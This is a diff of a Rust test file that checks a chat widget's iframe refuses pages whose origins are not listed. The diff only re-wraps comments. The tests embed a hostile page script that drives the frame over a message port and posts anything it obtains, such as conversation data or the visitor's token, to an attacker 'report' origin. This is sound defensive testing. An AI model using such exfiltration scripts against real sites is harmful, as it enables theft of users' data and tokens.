@@ -1,6 +1,6 @@
-//! Tests of the frame, the iframe (`frame.html`) that holds the widget's panel where a page does not allow WebAssembly. The frame
-//! must obey only pages whose origin its deployment lists. In the first tests a hostile page loads the frame of a shop and tries
-//! to use it: to read the visitor's conversation, to write in it, or to get the visitor's token.
+//! Tests of the frame, the iframe (`frame.html`) that holds the widget's panel where a page does not allow WebAssembly.
+//! The frame must obey only pages whose origin its deployment lists. In the first tests a hostile page loads the frame
+//! of a shop and tries to use it: to read the visitor's conversation, to write in it, or to get the visitor's token.
 
 use std::collections::BTreeSet;
 
@@ -11,9 +11,9 @@ use serde_json::{Value, json};
 const SHOP_PAGE: &str = r#"<!doctype html><html lang="en"><body>
     <script src="/pipit/pipit.js" data-session-endpoint="/chat-session"></script></body></html>"#;
 
-/// The hostile page. It embeds the shop's frame, gives it a port as a page with the widget does, and calls commands over the port.
-/// It sends every message of the frame to the origin `report`: those from the port to `/obtained`, the others to `/offer`. The
-/// page's query contains the attack as JSON.
+/// The hostile page. It embeds the shop's frame, gives it a port as a page with the widget does, and calls commands
+/// over the port. It sends every message of the frame to the origin `report`: those from the port to `/obtained`, the
+/// others to `/offer`. The page's query contains the attack as JSON.
 const ATTACK_PAGE: &str = r##"<!doctype html><html lang="en"><body><script>
     const { address, report, options, answers, text } = JSON.parse(decodeURIComponent(location.search.slice(1)));
     const sendReport = (path, body) => fetch(report + path, { method: "POST", mode: "no-cors", body: JSON.stringify(body) });
@@ -37,8 +37,8 @@ const ATTACK_PAGE: &str = r##"<!doctype html><html lang="en"><body><script>
         sendReport("/offer", data);
         if ("runs" in data) callCommands();
     });
-    // The page also calls commands without an offer of the frame. Then it waits for answers: 1 s if the frame has refused the page,
-    // otherwise 5 s.
+    // The page also calls commands without an offer of the frame. Then it waits for answers: 1 s if the frame has
+    // refused the page, otherwise 5 s.
     frame.onload = () => { callCommands(); setTimeout(() => sendReport("/done", {}), isRefused ? 1000 : 5000); };
     frame.src = `${address}#n1`;
     document.body.append(frame);
@@ -136,8 +136,8 @@ fn attacks(attacker: &Recorder) -> [Value; 4] {
     ]
 }
 
-/// What the hostile page has obtained. "an answer" is any message of the frame over the port; "an offer" is a message which says
-/// that the frame runs.
+/// What the hostile page has obtained. "an answer" is any message of the frame over the port; "an offer" is a message
+/// which says that the frame runs.
 async fn obtained(scene: &Scene) -> BTreeSet<&'static str> {
     let requests_to_attacker = scene.attacker.requests();
     let requests_to_shop = scene.shop.requests();
@@ -186,8 +186,8 @@ async fn obtained(scene: &Scene) -> BTreeSet<&'static str> {
         .collect()
 }
 
-/// Plays all attacks from a page, and checks that it obtains nothing. An offer is allowed: it only says that the file exists. The
-/// frame makes it if the browser does not name the embedding page.
+/// Plays all attacks from a page, and checks that it obtains nothing. An offer is allowed: it only says that the file
+/// exists. The frame makes it if the browser does not name the embedding page.
 async fn check_that_nothing_is_obtained_by(page: impl Fn(&Scene) -> String) {
     let scene = Scene::start().await;
     let attacks = attacks(&scene.attacker);
@@ -232,8 +232,8 @@ async fn a_sandboxed_frame_obtains_nothing() {
         .await;
 }
 
-/// A page that loads the widget's files from the shop, and whose Content-Security-Policy does not allow WebAssembly. It is served by
-/// another origin. The widget has to use the frame on it.
+/// A page that loads the widget's files from the shop, and whose Content-Security-Policy does not allow WebAssembly. It
+/// is served by another origin. The widget has to use the frame on it.
 fn blog_page(shop: &Recorder) -> String {
     let origin = shop.origin();
     format!(
@@ -265,8 +265,8 @@ async fn a_listed_page_has_a_conversation_of_its_own_in_the_frame_without_cookie
         browser
             .wait_until_equal("the state", json!("queued"), state)
             .await;
-        // The blog page itself fetches the session, from its own server. The frame has requested only files of the shop, and
-        // without cookies.
+        // The blog page itself fetches the session, from its own server. The frame has requested only files of the
+        // shop, and without cookies.
         let requests = scene.shop.requests().split_off(count_before);
         assert!(requests.iter().all(|it| it.method == "GET"), "{requests:?}");
         let modules = requests.iter().filter(|it| it.path.ends_with(".wasm"));
